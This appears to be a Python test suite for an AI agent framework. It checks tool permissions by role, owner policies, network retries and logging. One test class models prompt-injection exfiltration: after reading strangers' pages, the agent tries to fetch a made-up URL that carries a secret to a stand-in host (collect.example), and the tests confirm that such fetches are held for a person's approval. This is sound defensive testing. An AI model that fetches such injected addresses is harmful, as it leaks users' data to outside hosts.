"""Every tool says what a second run does and who may use it, and the house acts on it."""

import ast
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

import everloop
from everloop.app.tools import Toolset, build_tools
from everloop.bus.local import LocalBus
from everloop.core.approval import Policy, PolicyRule
from everloop.core.decide import Ask, Rules, RunCalls, Settle, Step, decide
from everloop.core.log import CallReturned, Compacted, Entry, ModelCalled, ModelSaid, UserSaid
from everloop.core.message import Media, Message, said
from everloop.core.people import Role
from everloop.core.thread import Thread
from everloop.core.tool import Effect, FileChange, Risk, ToolCall, ToolSpec, problems_of
from everloop.errors import HostTimeout, HostUnreachable, LinkFailed, SettingsError, StreamCut, ToolError
from everloop.files.folder import Folder
from everloop.ports.tools import CallContext, Shown, Tool
from everloop.readings.found_tools import ESSENTIAL
from everloop.settings import load
from everloop.testing import Call, Say, ScriptedModel
from everloop.tools.decorator import tool

SEARCH = {"web": {"search": {"engine": "searxng", "url": "http://search.example"}}}
TOOLS = {
    "read_file": (Effect.READ, Role.USER),
    "write_file": (Effect.IDEMPOTENT, Role.USER),
    "edit_file": (Effect.IDEMPOTENT, Role.USER),
    "apply_patch": (Effect.IDEMPOTENT, Role.USER),
    "create_document": (Effect.IDEMPOTENT, Role.USER),
    "list_dir": (Effect.READ, Role.USER),
    "find_files": (Effect.READ, Role.USER),
    "grep": (Effect.READ, Role.USER),
    "load_file": (Effect.IDEMPOTENT, Role.USER),
    "send_file": (Effect.IDEMPOTENT, Role.USER),
    "exec": (Effect.VERIFIABLE, Role.USER),
    "exec_output": (Effect.READ, Role.USER),
    "exec_input": (Effect.UNSAFE, Role.USER),
    "exec_stop": (Effect.IDEMPOTENT, Role.USER),
    "run_python": (Effect.VERIFIABLE, Role.USER),
    "web_fetch": (Effect.READ, Role.USER),
    "recall": (Effect.READ, Role.USER),
    "search_history": (Effect.READ, Role.USER),
    "read_history": (Effect.READ, Role.USER),
    "web_search": (Effect.READ, Role.USER),
    "remember": (Effect.KEYED, Role.USER),
    "forget": (Effect.IDEMPOTENT, Role.USER),
    "message": (Effect.KEYED, Role.GUEST),
    "spawn": (Effect.KEYED, Role.USER),
    "react": (Effect.IDEMPOTENT, Role.GUEST),
    "edit_message": (Effect.IDEMPOTENT, Role.USER),
    "delete_message": (Effect.IDEMPOTENT, Role.USER),
}
# In a place where others read along, which the examples' is: a person is asked, whoever wants it.
SPEAKS = {"message": Ask((0,))}
FOR_GUESTS = {**SPEAKS, "react": RunCalls((0,))}

NEVER_ASKED: Any = object()  # a store that only has to be there


def furnished(folder: Path, **tools: Any) -> Toolset:
    settings = load(folder, {}, {"tools": SEARCH | tools})
    files = Folder(folder / "files")
    home, ws = folder / "home", folder / "ws"
    return build_tools(home, ws, settings, files, LocalBus(), 8000, NEVER_ASKED, keeper=NEVER_ASKED, facts=NEVER_ASKED)


@tool
async def unclassified() -> str:
    """Says nothing of itself."""
    return ""


class TestClasses:
    def test_every_tool_of_the_house_is_in_the_table(self, tmp_path: Path):
        specs = [each.spec for each in furnished(tmp_path).tools]
        assert {spec.name: (spec.effect, spec.permission) for spec in specs} == TOOLS
        assert len(specs) == len(TOOLS)

    def test_every_tool_is_explained_to_the_model_with_its_parameters(self, tmp_path: Path):
        specs = [each.spec for each in furnished(tmp_path).tools]
        assert [spec.name for spec in specs if not spec.description] == []
        assert [
            f"{spec.name}.{name}"
            for spec in specs
            for name, shape in spec.schema["properties"].items()
            if not shape.get("description") and shape["type"] != "boolean"  # whose name says it
        ] == []

    def test_what_says_nothing_of_itself_is_unsafe_and_for_the_owner_alone(self):
        spec = unclassified.spec
        assert (spec.effect, spec.permission, spec.guarded, spec.local) == (Effect.UNSAFE, Role.OWNER, False, False)

    def test_every_tool_declares_its_effect_and_its_permission(self):
        folder = Path(everloop.__file__).parent / "tools"
        found = {file.name: list(undeclared(file.read_text())) for file in folder.rglob("*.py")}
        assert {name: names for name, names in found.items() if names} == {}

    @pytest.mark.parametrize(
        "decorator", ["@tool", "@tool()", "@tool(Effect.READ)", "@tool(permission=Role.USER)", '@tool(name="x")']
    )
    def test_a_tool_that_does_not_is_found(self, decorator: str):
        assert list(undeclared(f"{decorator}\nasync def run():\n    pass\n")) == ["run"]
        assert list(undeclared("@tool(Effect.READ, permission=Role.USER)\nasync def run():\n    pass\n")) == []

    def test_a_small_model_is_shown_the_essential_ones(self, tmp_path: Path):
        assert furnished(tmp_path).large == TOOLS.keys() - ESSENTIAL

    def test_nothing_is_made_before_it_is_used(self, tmp_path: Path):
        furnished(tmp_path)
        assert list(tmp_path.rglob("*")) == [tmp_path / "home"]  # which tools know, so as not to see it

    @pytest.mark.parametrize(
        ("engine", "needs"),
        [("searxng", "tools.web.search.url"), ("brave", "tools.web.search.api_key or BRAVE_API_KEY"),
         ("tavily", "tools.web.search.api_key or TAVILY_API_KEY")],
    )  # fmt: skip
    def test_an_engine_that_lacks_something_says_what(self, tmp_path: Path, engine: str, needs: str):
        with pytest.raises(SettingsError) as caught:
            furnished(tmp_path, web={"search": {"engine": engine}})
        assert str(caught.value) == f"tools.web.search.engine is {engine}, which needs {needs}"

    def test_a_host_that_cannot_be_permitted_is_said_at_once(self, tmp_path: Path):
        with pytest.raises(SettingsError) as caught:
            furnished(tmp_path, web={"allow": ["10.0.0.0/8", "nas.local/files"]})
        assert str(caught.value) == (
            "tools.web.allow: 'nas.local/files' cannot be permitted: a host is permitted as a whole, without a path."
        )

    def test_the_home_itself_is_no_workspace(self, tmp_path: Path):
        settings = load(tmp_path, {}, {"tools": SEARCH})
        with pytest.raises(SettingsError) as caught:
            build_tools(tmp_path, tmp_path / "." / "", settings, Folder(tmp_path / "files"), LocalBus(), 8000)
        assert str(caught.value) == (
            f"workspace is {tmp_path}, where everloop keeps its own files; choose another folder"
        )

    async def test_where_the_home_lies_in_the_workspace_its_keys_cannot_be_read(self, tmp_path: Path):
        (tmp_path / "home").mkdir()
        (tmp_path / "home/config.toml").write_text("secret")
        settings = load(tmp_path, {}, {"tools": SEARCH})
        made = build_tools(tmp_path / "home", tmp_path, settings, Folder(tmp_path / "files"), LocalBus(), 8000)
        tools = {each.spec.name: each for each in made.tools}
        context = CallContext("t:1:0", "t", "cli:direct", "owen", role=Role.USER)
        with pytest.raises(ToolError, match="permission denied"):
            await tools["read_file"].run({"path": "home/config.toml"}, context)


def undeclared(source: str) -> Iterator[str]:
    """The functions that become tools without saying what a second run does, or who may use them."""
    for node in ast.walk(ast.parse(source)):
        for mark in node.decorator_list if isinstance(node, ast.AsyncFunctionDef) else ():
            made = mark if isinstance(mark, ast.Call) else ast.Call(mark, [], [])
            if not (isinstance(made.func, ast.Name) and made.func.id == "tool"):
                continue
            if not made.args or "permission" not in {keyword.arg for keyword in made.keywords}:
                yield node.name


ROLES = {"gus": Role.GUEST, "una": Role.USER, "ada": Role.ADMIN, "owen": Role.OWNER}


def specs_of(folder: Path, *more: Tool, **tools: Any) -> dict[str, ToolSpec]:
    return {each.spec.name: each.spec for each in (*furnished(folder, **tools).tools, *more)}


def example_of(spec: ToolSpec) -> ToolCall:
    """A call with what is required and nothing else."""
    values = {"string": '"ls"', "integer": "1"}
    needed = [f'"{name}": {values[spec.schema["properties"][name]["type"]]}' for name in spec.schema["required"]]
    call = ToolCall("1", spec.name, "{" + ", ".join(needed) + "}")
    assert problems_of(call, spec) == []
    return call


def asked_by(person: str, call: ToolCall, *before: Entry) -> Thread:
    spoken = UserSaid(said("go on"), person, "cli:direct", 1)
    return Thread.of(*before, spoken, ModelCalled("m"), ModelSaid("", (call,)))


def steps(folder: Path, person: str, *more: Tool, **tools: Any) -> dict[str, Step]:
    specs = specs_of(folder, *more, **tools)
    rules = Rules(specs, roles=ROLES)
    return {name: decide(asked_by(person, example_of(spec)), rules) for name, spec in specs.items()}


def refused(name: str, person: str) -> Step:
    return Settle((CallReturned(3, 0, f"{name} is not for {person} to use.", "denied"),))


class TestLeavingOut:
    def names(self, folder: Path, *disabled: str) -> set[str]:
        settings = load(folder, {}, {"tools": {"disabled": disabled}})
        made = build_tools(
            folder / "home", folder / "ws", settings, Folder(folder / "files"), LocalBus(), 8000, NEVER_ASKED
        )
        return {tool.spec.name for tool in made.tools}

    def test_the_owner_leaves_out_what_they_do_not_want(self, tmp_path: Path):
        every = self.names(tmp_path)
        commands = {"exec", "exec_output", "exec_input", "exec_stop"}
        assert self.names(tmp_path, "exec*", "web_fetch") == every - commands - {"web_fetch"}
        assert self.names(tmp_path, "*") == set()

    def test_a_name_that_is_none_is_a_mistake(self, tmp_path: Path):
        with pytest.raises(SettingsError, match=r"tools.disabled: there is no tool 'shell'"):
            self.names(tmp_path, "shell")


class TestPermissions:
    """Guest, user, admin and owner before every door."""

    @pytest.mark.parametrize("person", ["gus", "nobody-knows"])
    def test_a_guest_may_use_nothing_but_what_reaches_their_own_alone(self, tmp_path: Path, person: str):
        names = [*TOOLS, "unclassified"]
        assert steps(tmp_path, person, unclassified) == {name: refused(name, person) for name in names} | FOR_GUESTS

    def test_who_has_no_name_is_a_guest(self, tmp_path: Path):
        assert steps(tmp_path, "") == {name: refused(name, "guests") for name in TOOLS} | FOR_GUESTS

    @pytest.mark.parametrize("person", ["una", "ada"])
    def test_a_user_and_an_admin_may_use_all_but_what_is_the_owners(self, tmp_path: Path, person: str):
        assert steps(tmp_path, person, unclassified) == {
            **dict.fromkeys(TOOLS, RunCalls((0,))),
            **SPEAKS,
            "unclassified": refused("unclassified", person),
        }

    def test_the_owner_may_use_everything(self, tmp_path: Path):
        assert steps(tmp_path, "owen", unclassified) == dict.fromkeys([*TOOLS, "unclassified"], RunCalls((0,))) | SPEAKS

    def test_without_a_sandbox_every_command_is_asked_about_and_nothing_else(self, tmp_path: Path):
        free = {"exec": {"unsafe_without_sandbox": True}}
        runs = {"exec", "exec_input", "run_python", *SPEAKS}
        assert steps(tmp_path, "una", **free) == {name: Ask((0,)) if name in runs else RunCalls((0,)) for name in TOOLS}
        assert steps(tmp_path, "gus", **free) == {name: refused(name, "gus") for name in TOOLS} | FOR_GUESTS

    @pytest.mark.parametrize("least", Role)
    def test_a_role_may_do_what_those_below_may(self, least: Role):
        @tool(Effect.READ, permission=least)
        async def look() -> str:
            """Looks."""
            return ""

        rules = Rules({"look": look.spec}, roles=ROLES)
        may = [person for person in ROLES if decide(asked_by(person, example_of(look.spec)), rules) == RunCalls((0,))]
        assert may == [person for person, role in ROLES.items() if role >= least]

    def test_a_policy_forbids_to_the_owner_too(self, tmp_path: Path):
        specs = specs_of(tmp_path)
        rules = Rules(
            specs, roles=ROLES, policy=Policy(rules=(PolicyRule("exec*", "deny"), PolicyRule("web_*", "ask")))
        )
        found = {name: decide(asked_by("owen", example_of(spec)), rules) for name, spec in specs.items()}
        forbidden = Settle((CallReturned(3, 0, "The owner's settings do not allow this.", "denied"),))
        assert (
            found
            == {
                name: forbidden if name.startswith("exec") else Ask((0,)) if name.startswith("web") else RunCalls((0,))
                for name in TOOLS
            }
            | SPEAKS
        )


class TestAddressesThatTell:
    """Whoever has read strangers' pages may have been told to carry something out in an address."""

    MADE_UP = "https://collect.example/?note=secret"
    PAGE = 'Read on at <https://next.example/2>. <a href="https://third.example/3">'

    def step(self, folder: Path, url: str, *, origin: str, text: str = "", says: str = "") -> Step:
        specs = specs_of(folder)
        thread = Thread.of(
            UserSaid(said(f"Look at https://first.example/1 {text}"), "owen", "cli:direct", 1),
            ModelCalled("m"),
            ModelSaid("", (ToolCall("1", "web_fetch", '{"url": "https://first.example/1"}'),)),
            CallReturned(3, 0, self.PAGE, origin=origin, public=bool(origin)),
            ModelCalled("m"),
            ModelSaid(says, (ToolCall("2", "web_fetch", f'{{"url": "{url}"}}'),)),
        )
        return decide(thread, Rules(specs, roles=ROLES))

    def test_one_that_nobody_gave_is_asked_about(self, tmp_path: Path):
        assert self.step(tmp_path, self.MADE_UP, origin="https://first.example/1") == Ask((0,))

    def test_it_is_not_where_nothing_of_strangers_was_read(self, tmp_path: Path):
        assert self.step(tmp_path, self.MADE_UP, origin="") == RunCalls((0,))

    @pytest.mark.parametrize("url", ["https://first.example/1", "https://next.example/2", "https://third.example/3"])
    def test_one_that_stands_in_the_conversation_is_not(self, tmp_path: Path, url: str):
        assert self.step(tmp_path, url, origin="https://first.example/1") == RunCalls((0,))

    def test_one_that_a_person_says_is_not(self, tmp_path: Path):
        step = self.step(tmp_path, self.MADE_UP, origin="https://first.example/1", text=f"and {self.MADE_UP}")
        assert step == RunCalls((0,))

    def test_the_model_gives_itself_none_by_saying_it_first(self, tmp_path: Path):
        step = self.step(tmp_path, self.MADE_UP, origin="https://first.example/1", says=f"I open {self.MADE_UP}")
        assert step == Ask((0,))

    def test_nor_by_having_a_tool_repeat_it(self, tmp_path: Path):
        echo = ToolCall("1", "exec", f'{{"command": "echo {self.MADE_UP}"}}')
        thread = asked_by("owen", echo)
        thread.strangers.outside = True
        thread.extend(
            (
                CallReturned(3, 0, f"[exit code 0]\n{self.MADE_UP}\n"),
                ModelCalled("m"),
                ModelSaid("", (ToolCall("2", "web_fetch", f'{{"url": "{self.MADE_UP}"}}'),)),
            )
        )
        assert decide(thread, Rules(specs_of(tmp_path), roles=ROLES)) == Ask((0,))

    def test_after_a_summary_only_what_people_said_and_is_kept_counts(self):
        kept = (Message("user", said("see https://kept.example")), Message("assistant", said("https://own.example")))
        thread = Thread.of(Compacted("I had read https://summed.example", kept))
        names = ("kept", "own", "summed")
        assert [name for name in names if thread.before(0).mentions(f"https://{name}.example")] == ["kept"]

    def test_the_person_is_told_why(self, tmp_path: Path):
        risk = specs_of(tmp_path)["web_fetch"].risk
        assert risk is not None
        thread = Thread()
        thread.strangers.outside = True
        why = (
            "nobody gave the model this address: it made it up after it had read what strangers wrote, and fetching it "
            "may tell collect.example what the model knows"
        )
        assert risk({"url": self.MADE_UP}, thread.before(0)) == Risk(
            "medium", leaves=True, why=why, host="collect.example"
        )


async def entries(agent: everloop.Agent) -> list[Entry]:
    row = await agent.store.session("api:default")
    assert row is not None
    return list(await agent.store.read(row.id))


async def results(agent: everloop.Agent) -> list[CallReturned]:
    return [entry for entry in await entries(agent) if isinstance(entry, CallReturned)]


class TestRetries:
    """A call that the network failed is made once more, if a second time changes nothing."""

    @pytest.mark.parametrize("error", [LinkFailed("gone"), HostTimeout("slow"), HostUnreachable("away"),
                                       StreamCut("cut"), ConnectionResetError("reset")], ids=type)  # fmt: skip
    @pytest.mark.parametrize("effect", [Effect.READ, Effect.IDEMPOTENT])
    async def test_a_read_is_tried_once_more(self, tmp_path: Path, effect: Effect, error: Exception):
        assert await self.turn(tmp_path, effect, [error]) == (2, [CallReturned(3, 0, "here")])

    @pytest.mark.parametrize("effect", [Effect.KEYED, Effect.VERIFIABLE, Effect.UNSAFE])
    async def test_what_may_have_taken_effect_is_not(self, tmp_path: Path, effect: Effect):
        assert await self.turn(tmp_path, effect, [LinkFailed("gone")]) == (
            1,
            [CallReturned(3, 0, "Error: gone", "failed")],
        )

    async def test_it_is_tried_once_more_and_not_twice(self, tmp_path: Path):
        assert await self.turn(tmp_path, Effect.READ, [LinkFailed("gone"), LinkFailed("gone again")]) == (
            2,
            [CallReturned(3, 0, "Error: gone again", "failed")],
        )

    @pytest.mark.parametrize("error", [ToolError("no such page"), ValueError("odd")], ids=type)
    async def test_what_failed_of_itself_is_not_tried_again(self, tmp_path: Path, error: Exception):
        runs, (returned,) = await self.turn(tmp_path, Effect.READ, [error])
        assert (runs, returned.outcome) == (1, "failed")

    async def turn(self, folder: Path, effect: Effect, errors: list[Exception]) -> tuple[int, list[CallReturned]]:
        """How often a tool is run that fails so, and what is told of it."""
        runs, left = 0, list(errors)

        @tool(effect)
        async def reach() -> str:
            """Reaches for something far away."""
            nonlocal runs
            runs += 1
            if left:
                raise left.pop(0)
            return "here"

        model = ScriptedModel([Call("reach"), Say("done")])
        async with everloop.open(folder / "home", provider=model, tools=[reach]) as agent:
            await agent.ask("go")
            return runs, await results(agent)


def kept(name: str, content: bytes) -> Media:
    return Media(f"file:{sha256(content).hexdigest()}", "text/plain", name, "owner")


class TestTheLog:
    async def test_a_change_and_a_strangers_words_stand_in_it(self, tmp_path: Path):
        @tool(Effect.READ)
        async def overhear() -> Shown:
            """Tells what someone says."""
            return Shown("lovely weather", origin="https://a.example")

        model = ScriptedModel([Call("write_file", {"path": "a.txt", "content": "x"}), Call("overhear"), Say("done")])
        async with everloop.open(tmp_path / "home", provider=model, tools=[overhear]) as agent:
            await agent.ask("go")
            found = await entries(agent)
        change = FileChange("a.txt", "new", "2d711642b726")  # sha256 of x
        assert [entry for entry in found if isinstance(entry, CallReturned)] == [
            CallReturned(3, 0, "Wrote 1 bytes to a.txt.", changes=(change,), made=(kept("a.txt", b"x"),)),
            CallReturned(7, 0, "lovely weather", origin="https://a.example"),
        ]
        assert [Thread.of(*found[:count]).outside for count in range(6, len(found) + 1)] == [False] * 2 + [True] * 3

    async def test_what_a_patch_did_before_it_failed_stands_in_it(self, tmp_path: Path):
        patch = "*** Begin Patch\n*** Add File: a.txt\n+x\n*** Add File: link/b.txt\n+x\n*** End Patch"
        (tmp_path / "home/workspace").mkdir(parents=True)
        (tmp_path / "home/workspace/link").symlink_to("nowhere")
        model = ScriptedModel([Call("apply_patch", {"patch": patch}), Say("done")])
        async with everloop.open(tmp_path / "home", provider=model) as agent:
            await agent.ask("go")
            (returned,) = await results(agent)
        text = "Error: there is no 'link/b.txt'. The patch was applied in part. Done: added a.txt. Not tried: none."
        change = FileChange("a.txt", "new", "73cb3858a687")  # sha256 of x and a line's end
        assert returned == CallReturned(3, 0, text, "failed", changes=(change,), made=(kept("a.txt", b"x\n"),))

    def test_having_read_strangers_words_survives_a_summary(self):
        call = ToolCall("1", "web_fetch", '{"url": "https://a.example"}')
        thread = asked_by("owen", call)
        before = Thread.of(Compacted("nothing much", standing=thread.standing))
        thread.add(CallReturned(3, 0, "lovely weather", origin="https://a.example"))
        after = Thread.of(Compacted("lovely weather", standing=thread.standing))
        assert (before.outside, after.outside) == (False, True)
